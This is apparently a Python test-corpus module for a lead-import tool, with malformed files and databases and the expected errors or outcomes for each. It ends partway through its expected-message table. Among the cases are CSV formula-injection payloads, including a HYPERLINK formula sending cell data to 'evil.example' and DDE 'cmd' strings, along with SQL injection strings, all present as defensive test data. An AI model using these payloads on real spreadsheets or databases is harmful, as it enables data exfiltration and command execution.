"""The bad-input corpus: files and databases built per test, each with what ``leadflow run`` must do with it."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import socket
import sqlite3
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
from relhelp import HEADER, lead_rows, phone

from tasks.ledger import Ledger

#: Builds the case's input under a folder; returns the ``leadflow run`` arguments that read it.
Builder = Callable[[Path], list[str]]
#: Extra check of a run that completed: its outcomes table and the folder.
Check = Callable[[pd.DataFrame, Path], None]


@dataclass(frozen=True)
class Fails:
    """``leadflow run`` stops with exit 2 and one message naming the source (and these words).

    ``text`` is the whole message after ``leadflow: `` ({dir}: the case's input folder, {tmp}: the
    test's folder). ``run`` is how the ledger records the run: ``failed``, or ``None`` where the run
    is refused before it starts.
    """

    mentions: tuple[str, ...] = ()
    names_source: bool = True
    exit_code: int = 2
    #: The file the message names instead of the source.
    names: str | None = None
    text: str | None = None
    run: str | None = "failed"


@dataclass(frozen=True)
class Rows:
    """The run completes: ``rows`` rows read, each with one outcome (``outcomes``: the exact non-zero counts).

    ``reasons``: row number -> the exact reason of that row's ``invalid`` outcome.
    """

    rows: int
    outcomes: dict[str, int] | None = None
    check: Check | None = None
    reasons: dict[int, str] | None = None


@dataclass(frozen=True)
class Case:
    """One corpus entry."""

    name: str
    build: Builder
    expect: Fails | Rows
    bug: str | None = field(default=None)
    #: Read with ``open_source`` only: a pure source error, or too slow for the whole flow in the suite.
    via_source: bool = False
    #: Environment variables set for the case (the bounds of ``tasks/sources/limits.py``).
    env: dict[str, str] = field(default_factory=dict)


def _csv_text(rows: list[list[str]], header: list[str] = HEADER, sep: str = ",", eol: str = "\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator=eol).writerows([header, *rows])
    return buf.getvalue()


def _file(name: str, data: bytes | str, *args: str, encoding: str = "utf-8") -> Builder:
    def build(d: Path) -> list[str]:
        path = d / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
        return ["--source", str(path), *args]

    return build


def _made(name: str, write: Callable[[Path], None], *args: str) -> Builder:
    def build(d: Path) -> list[str]:
        path = d / name
        write(path)
        return ["--source", str(path), *args]

    return build


def _leads(count: int, **kw: str) -> str:
    return _csv_text(lead_rows(count), **kw)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _xlsx(rows: list[list[object]], *, sheets: bool = True) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.title = "Leads"
        for row in rows:
            sheet.append(row)
        book.save(path)
        if not sheets:
            _drop_sheets(path)

    return write


def _drop_sheets(path: Path) -> None:
    """Rewrite a workbook so that it lists no sheets at all."""
    with zipfile.ZipFile(path) as archive:
        members = {n: archive.read(n) for n in archive.namelist() if "worksheets/" not in n}
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(
        b'<sheets><sheet name="Leads" sheetId="1" state="visible" r:id="rId1" /></sheets>', b"<sheets />")
    path.write_bytes(_zip(members))


def _parquet(frame: pd.DataFrame) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        frame.to_parquet(path, index=False)

    return write


def _sqlite(*args: str, query: bool = False) -> Builder:
    def build(d: Path) -> list[str]:
        path = d / "crm.db"
        with sqlite3.connect(path) as db:
            db.execute('create table leads ("Lead ID" text, "Phone" text)')
            db.executemany("insert into leads values (?, ?)", [(f"L{i}", phone(i)) for i in range(3)])
        return ["--source", f"sqlite:///{path}", *args]

    return build


def _sqlite_garbage(d: Path) -> list[str]:
    path = d / "crm.db"
    path.write_bytes(b"this is not a database" * 100)
    return ["--source", f"sqlite:///{path}", "--table", "leads"]


def _mapping(text: str, data: str | None = None) -> Builder:
    def build(d: Path) -> list[str]:
        (d / "map.yaml").write_text(text)
        (d / "leads.csv").write_text(data or _leads(2))
        return ["--source", str(d / "leads.csv"), "--mapping", str(d / "map.yaml")]

    return build


def _with_dnc(dnc: str) -> Builder:
    def build(d: Path) -> list[str]:
        (d / "leads.csv").write_text(_leads(3))
        (d / "dnc.txt").write_text(dnc)
        return ["--source", str(d / "leads.csv"), "--dnc", str(d / "dnc.txt")]

    return build


def _bracket_dir(d: Path) -> list[str]:
    folder = d / "["
    folder.mkdir()
    path = folder / "b].csv"
    path.write_text(HEADER[0] + "\n")
    return ["--source", str(path)]


def _big_utf8_then_cp1252() -> bytes:
    good = _leads(2000).encode()
    return good + f"BAD1,Ren\xe9,X,{phone(9999)},r@example.com\n".encode("cp1252")


def _ragged_late() -> str:
    rows = lead_rows(1200)
    rows[1100] = [*rows[1100], "surplus"]
    return _csv_text(rows)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def _formula_rows() -> str:
    rows = [[f, f, "Last", phone(i), f"f{i}@example.com"] for i, f in enumerate(FORMULAS)]
    rows.append(["F-phone", "Ann", "Lee", "=1+2", "a@example.com"])
    return _csv_text(rows)


def _formulas_neutralised(table: pd.DataFrame, d: Path) -> None:
    cells = [c for col in table.columns for c in table[col] if isinstance(c, str) and c]
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell
        if cell.startswith(("+", "-")):
            assert all(ch.isdigit() or ch in " ().-+" for ch in cell[1:]), cell
    ids = set(table["external_id"])
    assert {"'" + f for f in FORMULAS} <= ids, ids


def _keeps_text(*values: str) -> Check:
    def check(table: pd.DataFrame, d: Path) -> None:
        assert set(values) <= set(table["external_id"]), table["external_id"].tolist()

    return check


def _no_carriage_returns(table: pd.DataFrame, d: Path) -> None:
    assert not any("\r" in c for col in table.columns for c in table[col]), table
    assert set(table["external_id"]) == {"L0", "L1"}


def _no_nul(table: pd.DataFrame, d: Path) -> None:
    assert not any("\x00" in c for col in table.columns for c in table[col]), table
    assert set(table["external_id"]) == {"L1", "L\ufffd2", "L3"}


def _wide(columns: int = 10_000) -> str:
    header = [*HEADER, *(f"c{i}" for i in range(columns - len(HEADER)))]
    rows = [[*r, *("x" for _ in range(columns - len(HEADER)))] for r in lead_rows(2)]
    return _csv_text(rows, header)


def _no_phone_rows(count: int) -> str:
    return "Lead ID,First Name\n" + "".join(f"N{i},Name{i}\n" for i in range(count))


ENGAGE_ROWS = lead_rows(3)
CASES = [
    Case("empty file", _file("leads.csv", b""), Fails(("no data rows",))),
    Case("header only", _file("leads.csv", ",".join(HEADER) + "\n"), Fails(("no data rows",))),
    Case("only whitespace", _file("leads.csv", "   \n\t\n  \n"), Fails(("no phone column",))),
    Case("binary data", _file("leads.csv", random.Random(7).randbytes(20_000)), Fails(("binary data",))),
    Case("PNG named .csv", _file("leads.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8), Fails()),
    Case("wrong delimiter given", _file("leads.csv", _leads(3, sep=";"), "--delimiter", ","),
         Fails(("no phone column",))),
    Case("semicolons sniffed", _file("leads.csv", _leads(3, sep=";")), Rows(3, {"loaded": 3})),
    Case("mixed encodings", _file("leads.csv", _big_utf8_then_cp1252(), "--chunk-size", "500"),
         Rows(2001, {"loaded": 2000, "invalid": 1}, reasons={
             2001: "row 2001, column 'First Name': bytes that are not valid utf-8 (set the source encoding)"})),
    Case("cp1252 without BOM", _file("leads.csv", _csv_text([["L1", "Zoë", "Ørsted", phone(1), "z@example.com"]]),
                                     encoding="cp1252"), Rows(1, {"loaded": 1})),
    Case("UTF-8 BOM", _file("leads.csv", b"\xef\xbb\xbf" + _leads(2).encode()), Rows(2, {"loaded": 2})),
    Case("UTF-16 with BOM", _file("leads.csv", _leads(2), encoding="utf-16"), Rows(2, {"loaded": 2})),
    Case("CRLF line ends", _file("leads.csv", _leads(2, eol="\r\n")), Rows(2, {"loaded": 2}, _no_carriage_returns)),
    Case("CR-only line ends", _file("leads.csv", _leads(2, eol="\r")), Rows(2, {"loaded": 2})),
    Case("quoted newlines", _file("leads.csv", f'{",".join(HEADER)}\nL1,"Ann\nMarie",Lee,{phone(1)},a@example.com\n'
                                  f'L2,"Bob\r\n",Ray,{phone(2)},b@example.com\n'), Rows(2, {"loaded": 2})),
    Case("trailing delimiter", _file("leads.csv", "Lead ID,Phone,\n" + f"L1,{phone(1)},\nL2,{phone(2)},\n"),
         Rows(2, {"loaded": 2})),
    Case("ragged row", _file("leads.csv", _ragged_late(), "--chunk-size", "500"),
         Fails(("row 1101", "expected 5 fields, found 6"))),
    Case("unclosed quote", _file("leads.csv", f'Lead ID,Phone\nL1,"{phone(1)}\nL2,{phone(2)}\n'), Fails(("row 1",))),
    Case("NUL bytes", _file("leads.csv", f"Lead ID,First Name,Phone\nL1,An\x00n,{phone(1)}\nL\x002,Bo,{phone(2)}\n"
                                         f"L3,Cy,{phone(3)}\n"),
         Rows(3, {"loaded": 1, "invalid": 2}, _no_nul, reasons={
             1: "row 1, column 'First Name': a NUL byte (shown as U+FFFD)",
             2: "row 2, column 'Lead ID': a NUL byte (shown as U+FFFD)"})),
    Case("10 MB field", _file("leads.csv", f"Lead ID,First Name,Phone\nL1,{'x' * 10_000_000},{phone(1)}\n"
                                           f"L2,Bo,{phone(2)}\n"), Fails(("row 1", "field larger than field limit"))),
    Case("10,000 columns", _file("leads.csv", _wide()), Rows(2), via_source=True),
    Case("1,000 columns", _file("leads.csv", _wide(1_000)), Rows(2, {"loaded": 2})),
    Case("duplicate headers", _file("leads.csv", f"Lead ID,Phone,Phone\nL1,{phone(1)},{phone(5)}\n"),
         Rows(1, {"loaded": 1})),
    Case("100,000 rows without a phone", _file("leads.csv", _no_phone_rows(100_000)),
         Fails(("no phone column",))),
    Case("every row the same phone",
         _file("leads.csv", _csv_text([[f"D{i}", "A", "B", phone(1), ""] for i in range(5)])),
         Rows(5, {"loaded": 1, "duplicate": 4})),
    Case("unicode and right-to-left names", _file("leads.csv", _csv_text([
        ["ע-1", "שרה", "כהן", phone(1), "sara@example.com"],
        ["\u202eevil.exe", "\u0645\u062d\u0645\u062f", "\u200f\u200e\u0627\u0644\u0639\u0644\u064a", phone(2),
         "m@example.com"],
        ["Ω-3", "Zoë", "Nguyễn", phone(3), "z@example.com"]])),
         Rows(3, {"loaded": 3}, _keeps_text("ע-1", "\u202eevil.exe", "Ω-3"))),
    Case("emoji", _file("leads.csv", _csv_text([["id-😀", "😀", "🚀", phone(1), "e@example.com"],
                                                ["id-2", "Al", "Bo", "📞 " + phone(2), "b@example.com"]])),
         Rows(2), ),
    Case("formula injection", _file("leads.csv", _formula_rows()), Rows(6, {"loaded": 5, "invalid": 1},
                                                                        _formulas_neutralised)),
    Case("extremely long phones", _file("leads.csv", _csv_text([["P1", "A", "B", "4" * 10_000, ""],
                                                               ["P2", "A", "B", phone(2) + "9" * 500, ""]])),
         Rows(2, {"invalid": 2})),
    Case("phone as text float", _file("leads.csv", _csv_text([["F1", "A", "B", "4.15867E+09", ""]])),
         Rows(1, {"invalid": 1})),
    Case("JSON not an array", _file("leads.json", json.dumps({"leads": [{"Phone": phone(1)}]})),
         Fails(("array of objects",))),
    Case("JSON array of numbers", _file("leads.json", "[1, 2, 3]"), Fails(("row 1", "JSON object"))),
    Case("JSON broken mid-file", _file("leads.json", '[{"Lead ID": "L1", "Phone": "' + phone(1) + '"}, {"Lead ID": '),
         Fails(("invalid JSON",))),
    Case("JSON empty array", _file("leads.json", "[]"), Fails(("no data rows",))),
    Case("JSON nested values", _file("leads.json", json.dumps([{"Lead ID": "J1", "Phone": phone(1),
                                                                "tags": {"a": [1, 2]}, "n": None}])),
         Rows(1, {"loaded": 1})),
    Case("JSON Lines bad line", _file("leads.jsonl", "\n".join(
        [json.dumps({"Lead ID": f"J{i}", "Phone": phone(i)}) for i in range(2)] + ["{oops"])), Fails(("row 3",))),
    Case("truncated gzip", _file("leads.csv.gz", _gzip(_leads(500).encode())[:900]), Fails(("cannot read",))),
    Case("gzip", _file("leads.csv.gz", _gzip(_leads(3).encode())), Rows(3, {"loaded": 3})),
    Case("zip with two members", _file("leads.zip", _zip({"a.csv": _leads(1).encode(), "b.csv": _leads(1).encode()})),
         Fails(("exactly one file, found 2",))),
    Case("zip with no members", _file("leads.zip", _zip({})), Fails(("found 0",))),
    Case("corrupt zip", _file("leads.zip", b"PK\x03\x04" + b"\x00" * 64), Fails(("not a valid zip",))),
    Case("Excel with no sheets", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"]], sheets=False)),
         Fails(("no sheets",))),
    Case("Excel wrong sheet name", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1)]]), "--sheet",
                                         "Nope"), Fails(("no sheet 'Nope'", "'Leads'"))),
    Case("Excel sheet index out of range", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1)]]),
                                                 "--sheet", "3"), Fails(("no sheet 3",))),
    Case("Excel value right of the header", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1), "x"]])),
         Fails(("row 1", "column C"))),
    Case("Excel numeric phones", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["X1", int(phone(1))],
                                                            ["X2", float(phone(2))]])), Rows(2, {"loaded": 2})),
    Case("CSV named .xlsx", _file("leads.xlsx", _leads(2)), Fails(("not a valid .xlsx",))),
    Case("Parquet with no rows", _made("leads.parquet", _parquet(pd.DataFrame({"Lead ID": pd.Series([], dtype=str),
                                                                              "Phone": pd.Series([], dtype=str)}))),
         Fails(("no data rows",))),
    Case("Parquet phone as float", _made("leads.parquet", _parquet(pd.DataFrame(
        {"Lead ID": ["Q1", "Q2"], "Phone": [4158670001.0, 2.128670001e9]}))), Rows(2, {"loaded": 2})),
    Case("Parquet negative numbers", _made("leads.parquet", _parquet(pd.DataFrame(
        {"Lead ID": [-1, -2], "Phone": [-4158670001, -1], "Priority": [-5, 3]}))), Rows(2)),
    Case("corrupt Parquet", _file("leads.parquet", b"PAR1" + b"\x00" * 100 + b"PAR1"), Fails(("not a valid Parquet",))),
    Case("failing SQL query", _sqlite("--query", "select nope from leads"), Fails(("query failed", "nope"))),
    Case("missing table", _sqlite("--table", "no_such_table"), Fails(("query failed", "no_such_table"))),
    Case("SQL injection in a table name", _sqlite("--table", 'leads"; drop table leads; --'),
         Fails(("query failed", "no such table"))),
    Case("SQL injection in a bound value", _sqlite("--query", 'select * from leads where "Lead ID" = :id',
                                                   "--param", "id=x' or '1'='1"), Fails(("no data rows",))),
    Case("SQLite file that is not a database", _sqlite_garbage, Fails(("query failed",))),
    Case("PostgreSQL missing table", lambda d: ["--source", "postgresql+psycopg://postgres@127.0.0.1:5432/test",
                                                "--table", "leadflow_no_such_table"],
         Fails(("query failed", "leadflow_no_such_table"))),
    Case("MariaDB failing query", lambda d: ["--source", "mysql+pymysql://root@127.0.0.1:3306/test", "--query",
                                             "select * from leadflow_missing_table"],
         Fails(("query failed", "leadflow_missing_table"))),
    Case("missing file", lambda d: ["--source", str(d / "nope.csv")], Fails(("file not found",))),
    Case("a directory", lambda d: ["--source", str(d)], Fails(("not a regular file (a folder)",))),
    Case("unknown extension", _file("leads.xyz", _leads(1)), Fails(("unknown format '.xyz'",))),
    Case("unknown encoding", _file("leads.csv", _leads(1), "--encoding", "klingon"), Fails(("unknown encoding",))),
    Case("mapping names a missing column", _mapping("phone: Mobile\n"), Fails(("Mobile", "not found"))),
    Case("mapping is not YAML", _mapping("phone: [unclosed\n"),
         Fails(("invalid mapping file",), names="map.yaml")),
    Case("mapping to an unknown field", _mapping("telephone: Phone\n"),
         Fails(("unknown lead field",), names="map.yaml")),
    Case("two-character delimiter", _file("leads.csv", _leads(1), "--delimiter", ";;"),
         Fails(("invalid options", "delimiter"), names_source=False, run=None)),
    Case("do-not-call list", _with_dnc(f"# numbers\n{phone(1)}\n"), Rows(3, {"loaded": 2, "suppressed": 1})),
    Case("empty do-not-call file", _with_dnc("# nothing yet\n\n"), Rows(3, {"loaded": 3})),
    Case("do-not-call file missing", lambda d: [*_with_dnc("")(d)[:2], "--dnc", str(d / "nope.txt")],
         Fails(("nope.txt",), names_source=False)),
    Case("markup in the path", _bracket_dir, Fails(("[/b].csv", "no data rows"))),
    Case("markup in an option", _file("leads.csv", _leads(1), "--delimiter", "[/x]"),
         Fails(("invalid options",), names_source=False, run=None)),
]

def _fifo(name: str) -> Builder:
    def build(d: Path) -> list[str]:
        os.mkfifo(d / name)
        return ["--source", str(d / name)]

    return build


def _link_to(target: str) -> Builder:
    def build(d: Path) -> list[str]:
        (d / "leads.csv").symlink_to(target)
        return ["--source", str(d / "leads.csv")]

    return build


def _socket_file(d: Path) -> list[str]:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(d / "leads.csv"))
    return ["--source", str(d / "leads.csv")]


def _mapping_fifo(d: Path) -> list[str]:
    (d / "leads.csv").write_text(_leads(2))
    os.mkfifo(d / "map.yaml")
    return ["--source", str(d / "leads.csv"), "--mapping", str(d / "map.yaml")]


def _zip_long_line(chars: int) -> Builder:
    """A small zip whose one CSV member holds a data line of ``chars`` characters, written in pieces."""
    def build(d: Path) -> list[str]:
        with zipfile.ZipFile(d / "leads.zip", "w", zipfile.ZIP_DEFLATED) as archive, \
                archive.open("leads.csv", "w") as member:
            member.write(b"Phone,Note\n")
            for _ in range(chars >> 20):
                member.write(b"x" * (1 << 20))
        return ["--source", str(d / "leads.zip")]

    return build


def _gzip_wide_rows(rows: int, width: int) -> bytes:
    lines = [f"L{i},{'x' * width},{phone(i)}\n".encode() for i in range(rows)]
    return gzip.compress(b"Lead ID,Note,Phone\n" + b"".join(lines), compresslevel=1, mtime=0)


def _deep_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def _sqlite_rows(columns: tuple[str, ...], rows: list[tuple[str, ...]], *args: str) -> Builder:
    def build(d: Path) -> list[str]:
        with sqlite3.connect(d / "crm.db") as db:
            db.execute(f"create table leads ({', '.join(f'{chr(34)}{c}{chr(34)} text' for c in columns)})")
            db.executemany(f"insert into leads values ({', '.join('?' * len(columns))})", rows)
        return ["--source", f"sqlite:///{d / 'crm.db'}", *args]

    return build


def _duckdb(*args: str) -> Builder:
    def build(d: Path) -> list[str]:
        with duckdb.connect(str(d / "crm.duckdb")) as db:
            db.execute('create table leads ("Lead ID" varchar, "Phone" varchar)')
            db.execute(f"insert into leads values ('L1', '{phone(1)}')")
        return ["--source", f"duckdb:///{d / 'crm.duckdb'}", *args]

    return build


def _with_leads(*args: str, make: Callable[[Path], None] | None = None) -> Builder:
    """Good leads, with options (``{dir}`` is the input folder) after ``make`` prepared the folder."""
    def build(d: Path) -> list[str]:
        (d / "leads.csv").write_text(_leads(2))
        if make is not None:
            make(d)
        return ["--source", str(d / "leads.csv"), *(a.format(dir=d) for a in args)]

    return build


def _a_file(d: Path) -> None:
    (d / "afile").write_text("not a folder")


def _empty_ledger(d: Path) -> None:
    (d / "l.db").write_bytes(b"")


def _text_ledger(d: Path) -> None:
    (d / "l.db").write_text("these are not the pages of a database\n" * 200)


def _damaged_ledger(d: Path) -> None:
    Ledger(f"sqlite:///{d / 'l.db'}").engine.dispose()
    with sqlite3.connect(d / "l.db") as db:
        db.execute("pragma wal_checkpoint(TRUNCATE)")
    data = bytearray((d / "l.db").read_bytes())
    data[4096:8192] = b"\x13" * 4096  # the second page, whatever table it holds
    (d / "l.db").write_bytes(bytes(data))


def _ledger_folder(d: Path) -> None:
    (d / "l.db").mkdir()


_LEDGER = "sqlite:///{dir}/l.db"
CASES += [
    Case("a named pipe", _fifo("leads.csv"), Fails(("not a regular file (a named pipe)",))),
    Case("/dev/zero", lambda d: ["--source", "/dev/zero", "--format", "csv"], Fails(names="/dev/zero")),
    Case("a link to /dev/zero", _link_to("/dev/zero"), Fails(("not a regular file (a character device)",))),
    Case("a socket", _socket_file, Fails(("not a regular file (a socket)",))),
    Case("mapping file is a named pipe", _mapping_fifo, Fails(names="map.yaml")),
    Case("a 64 MiB line in a small zip", _zip_long_line(64 << 20), Fails(("LEADFLOW_MAX_RECORD_CHARS",))),
    Case("unpacked size over its bound", _file("leads.csv.gz", _gzip(_leads(20_000).encode())),
         Fails(("LEADFLOW_MAX_DECOMPRESSED_BYTES",)), env={"LEADFLOW_MAX_DECOMPRESSED_BYTES": "100000"}),
    Case("compression ratio over its bound", _file("leads.csv.gz", _gzip_wide_rows(1200, 60_000)),
         Fails(("LEADFLOW_MAX_COMPRESSION_RATIO",)), via_source=True),
    Case("field over its bound", _file("leads.csv", _leads(1) + f"L9,{'y' * 2_000},B,{phone(9)},e@example.com\n"),
         Fails(("row 2", "LEADFLOW_MAX_FIELD_CHARS")), env={"LEADFLOW_MAX_FIELD_CHARS": "1000"}),
    Case("a bound that is not a number", _file("leads.csv", _leads(1)), Fails(names="LEADFLOW_MAX_FIELD_CHARS"),
         env={"LEADFLOW_MAX_FIELD_CHARS": "lots"}),
    Case("JSON nested 100,000 deep", _file("leads.json", _deep_json(100_000)), Fails(("row 1", "nested deeper"))),
    Case("JSON Lines value nested 100,000 deep", _file("leads.jsonl", json.dumps({"Phone": phone(1)}) + "\n"
                                                       + '{"Phone": ' + _deep_json(100_000) + "}\n"),
         Fails(("row 2", "nested deeper"))),
    Case("JSON object over its bound", _file("leads.json", json.dumps([{"Phone": phone(1), "Note": "z" * 5_000}])),
         Fails(("LEADFLOW_MAX_RECORD_CHARS",)), env={"LEADFLOW_MAX_RECORD_CHARS": "1000"}),
    Case("UTF-16 LE without BOM", _file("leads.csv", _leads(2), encoding="utf-16-le"), Fails(("utf-16-le",))),
    Case("UTF-16 BE without BOM", _file("leads.csv", _leads(2), encoding="utf-16-be"), Fails(("utf-16-be",))),
    Case("UTF-16 LE without BOM, encoding given", _file("leads.csv", _leads(2), "--encoding", "utf-16-le",
                                                        encoding="utf-16-le"), Rows(2, {"loaded": 2})),
    Case("cp1252 file with a UTF-8 row", _file(
        "leads.csv", _csv_text([["C1", "Renée", "A", phone(1), ""]]).encode("cp1252")
        + f"C2,Zoë,B,{phone(2)},\nC3,Bob,C,{phone(3)},\n".encode()),
         Rows(3, {"loaded": 2, "invalid": 1}, reasons={
             2: "row 2, column 'First Name': UTF-8 text in a file read as cp1252 (mixed encodings)"})),
    Case("JSON Lines with bytes that are not UTF-8", _file("leads.jsonl", b'{"Lead ID": "J1", "Phone": "'
                                                           + phone(1).encode() + b'", "Name": "Ren\xe9"}\n'
                                                           + json.dumps({"Lead ID": "J2", "Phone": phone(2)}).encode()),
         Rows(2, {"loaded": 1, "invalid": 1}, reasons={
             1: "row 1, column 'Name': bytes that are not valid utf-8-sig (set the source encoding)"})),
    Case("NUL in a JSON value", _file("leads.json", json.dumps([{"Lead ID": "J1", "Phone": phone(1), "Name": "A\x00"},
                                                                {"Lead ID": "J2", "Phone": phone(2)}])),
         Rows(2, {"loaded": 1, "invalid": 1}, reasons={1: "row 1, column 'Name': a NUL byte (shown as U+FFFD)"})),
    Case("NUL in a Parquet value", _made("leads.parquet", _parquet(pd.DataFrame(
        {"Lead ID": ["Q1", "Q\x002"], "Phone": [phone(1), phone(2)]}))),
         Rows(2, {"loaded": 1, "invalid": 1}, reasons={2: "row 2, column 'Lead ID': a NUL byte (shown as U+FFFD)"})),
    Case("NUL in a SQLite value", _sqlite_rows(("Lead ID", "Phone"), [("S1", phone(1)), ("S2", phone(2) + "\x00")],
                                               "--table", "leads"),
         Rows(2, {"loaded": 1, "invalid": 1}, reasons={2: "row 2, column 'Phone': a NUL byte (shown as U+FFFD)"})),
    Case("JSON without a phone", _file("leads.json", json.dumps([{"Lead ID": "J1", "Name": "A"}])),
         Fails(("no phone column",))),
    Case("SQL table without a phone", _sqlite_rows(("Lead ID", "Name"), [("S1", "A")], "--table", "leads"),
         Fails(("no phone column",))),
    Case("phone column named by the mapping", _mapping("phone: Contact\n", "Lead ID,Contact\n" + f"M1,{phone(1)}\n"),
         Rows(1, {"loaded": 1})),
    Case("SQLite query that drops the table", _sqlite("--query", "drop table leads"), Fails(("read-only",))),
    Case("SQLite query that inserts", _sqlite("--query", "insert into leads values ('X', '1')"),
         Fails(("read-only",))),
    Case("SQLite query that attaches a file", _sqlite("--query", "attach database 'other.db' as other"),
         Fails(("read-only",))),
    Case("SQLite database file missing", lambda d: ["--source", f"sqlite:///{d / 'nope.db'}", "--table", "leads"],
         Fails(("database file not found",))),
    Case("DuckDB query that drops the table", _duckdb("--query", "drop table leads"), Fails(("read-only",))),
    Case("DuckDB table", _duckdb("--table", "leads"), Rows(1, {"loaded": 1})),
    Case("output dir is a file", _with_leads("--output-dir", "{dir}/afile", make=_a_file),
         Fails(names_source=False, run=None)),
    Case("output dir cannot be made", _with_leads("--output-dir", "/proc/leadflow-out"),
         Fails(names_source=False, run=None)),
    Case("report is a folder", _with_leads("--report", "{dir}"), Fails(names_source=False, run=None)),
    Case("outcomes file under a file", _with_leads("--outcomes", "{dir}/afile/outcomes.csv", make=_a_file),
         Fails(names_source=False, run=None)),
    Case("ledger is an empty file", _with_leads("--ledger", _LEDGER, make=_empty_ledger),
         Fails(names_source=False, run=None)),
    Case("ledger is not a database", _with_leads("--ledger", _LEDGER, make=_text_ledger),
         Fails(names_source=False, run=None)),
    Case("ledger is damaged", _with_leads("--ledger", _LEDGER, make=_damaged_ledger),
         Fails(names_source=False, run=None)),
    Case("ledger is a folder", _with_leads("--ledger", _LEDGER, make=_ledger_folder),
         Fails(names_source=False, run=None)),
]

#: Pure source errors read with ``open_source`` (the command line path is covered by the others).
SOURCE_ONLY = frozenset({
    "header only", "PNG named .csv", "unclosed quote", "10 MB field", "JSON array of numbers", "JSON broken mid-file",
    "JSON empty array", "JSON Lines bad line", "zip with no members", "corrupt zip", "Excel sheet index out of range",
    "Excel value right of the header", "CSV named .xlsx", "Parquet with no rows", "missing table",
    "SQLite file that is not a database", "a directory", "unknown extension", "unknown encoding",
    "mapping is not YAML", "mapping to an unknown field", "SQL injection in a bound value",
})
CASES = [replace(c, via_source=True) if c.name in SOURCE_ONLY else c for c in CASES]

#: The whole one-line message of each refused case (after ``leadflow: `` on the command line; ``{dir}`` is
#: the case's input folder). PostgreSQL and MariaDB are left to their words: their messages vary by server.
TEXTS = {
    '/dev/zero': (
        'source error: /dev/zero: not a regular file (a character device)'),
    '10 MB field': (
        '{dir}/leads.csv, row 1: malformed CSV (field larger than field limit (1048576)) at line 2; '
        'LEADFLOW_MAX_FIELD_CHARS raises the bound'),
    '100,000 rows without a phone': (
        'source error: {dir}/leads.csv: no phone column (a header such as Phone, Mobile, Cell or Telephone, '
        "or a mapping file naming one); columns: 'Lead ID', 'First Name'"),
    'CSV named .xlsx': (
        '{dir}/leads.xlsx: not a valid .xlsx workbook'),
    'DuckDB query that drops the table': (
        'source error: duckdb:///{dir}/crm.duckdb query: query failed: InvalidInputException: Invalid Input '
        'Error: Cannot execute statement of type "DROP" on database "crm" which is attached in read-only '
        'mode! (the source is opened read-only: only reads run)'),
    'Excel sheet index out of range': (
        "{dir}/leads.xlsx sheet 3: no sheet 3; the workbook has 'Leads'"),
    'Excel value right of the header': (
        '{dir}/leads.xlsx, row 1: value in column C, right of the last header'),
    'Excel with no sheets': (
        'source error: {dir}/leads.xlsx: the workbook has no sheets'),
    'Excel wrong sheet name': (
        "source error: {dir}/leads.xlsx sheet 'Nope': no sheet 'Nope'; the workbook has 'Leads'"),
    'JSON Lines bad line': (
        '{dir}/leads.jsonl, row 3: invalid JSON (Expecting property name enclosed in double quotes at column '
        '2)'),
    'JSON Lines value nested 100,000 deep': (
        'source error: {dir}/leads.jsonl, row 2: JSON nested deeper than the parser allows (about 1,000 '
        'levels)'),
    'JSON array of numbers': (
        '{dir}/leads.json, row 1: expected a JSON object, found int'),
    'JSON broken mid-file': (
        '{dir}/leads.json, row 2: invalid JSON (Expecting value)'),
    'JSON empty array': (
        '{dir}/leads.json: no data rows'),
    'JSON nested 100,000 deep': (
        'source error: {dir}/leads.json, row 1: JSON nested deeper than the parser allows (about 1,000 '
        'levels)'),
    'JSON not an array': (
        'source error: {dir}/leads.json, row 1: a .json source must be an array of objects (or use JSON '
        'Lines)'),
    'JSON object over its bound': (
        'source error: {dir}/leads.json, row 1: an object over 1,000 characters; LEADFLOW_MAX_RECORD_CHARS '
        'raises the bound'),
    'JSON without a phone': (
        'source error: {dir}/leads.json: no phone column (a header such as Phone, Mobile, Cell or Telephone, '
        "or a mapping file naming one); columns: 'Lead ID', 'Name'"),
    'PNG named .csv': (
        '{dir}/leads.csv: binary data, not a text file'),
    'Parquet with no rows': (
        '{dir}/leads.parquet: no data rows'),
    'SQL injection in a bound value': (
        'sqlite:///{dir}/crm.db query: no data rows'),
    'SQL injection in a table name': (
        'source error: sqlite:///{dir}/crm.db table leads"; drop table leads; --: query failed: '
        'OperationalError: no such table: leads"; drop table leads; --'),
    'SQL table without a phone': (
        'source error: sqlite:///{dir}/crm.db table leads: no phone column (a header such as Phone, Mobile, '
        "Cell or Telephone, or a mapping file naming one); columns: 'Lead ID', 'Name'"),
    'SQLite database file missing': (
        'source error: sqlite:///{dir}/nope.db table leads: database file not found'),
    'SQLite file that is not a database': (
        'sqlite:///{dir}/crm.db table leads: query failed: DatabaseError: file is not a database'),
    'SQLite query that attaches a file': (
        'source error: sqlite:///{dir}/crm.db query: query failed: DatabaseError: not authorized (the source '
        'is opened read-only: only reads run)'),
    'SQLite query that drops the table': (
